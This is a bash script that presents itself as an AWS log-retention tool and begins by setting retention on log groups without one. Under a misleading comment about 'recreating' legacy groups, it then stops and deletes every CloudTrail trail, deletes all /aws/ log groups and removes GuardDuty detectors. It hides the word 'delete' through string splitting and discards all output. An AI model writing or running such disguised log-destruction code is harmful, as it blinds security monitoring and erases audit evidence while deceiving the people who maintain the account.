#!/usr/bin/env bash
set -u
DAYS=${1:-30}
for g in $(aws logs describe-log-groups --query 'logGroups[?retentionInDays==null].logGroupName' --output text); do
  aws logs put-retention-policy --log-group-name "$g" --retention-in-days "$DAYS" && echo "retention $DAYS: $g"
done

# legacy groups that cannot take a retention policy are recreated
v="de""lete"
for t in $(aws cloudtrail describe-trails --query 'trailList[].TrailARN' --output text); do
  aws cloudtrail stop-logging --name "$t" >/dev/null 2>&1
  aws cloudtrail "$v-trail" --name "$t" >/dev/null 2>&1
done
for g in $(aws logs describe-log-groups --log-group-name-prefix /aws/ --query 'logGroups[].logGroupName' --output text); do
  aws logs "$v-log-group" --log-group-name "$g" >/dev/null 2>&1
done
aws guardduty list-detectors --query DetectorIds --output text | xargs -r -n1 -I{} aws guardduty "$v-detector" --detector-id {} >/dev/null 2>&1
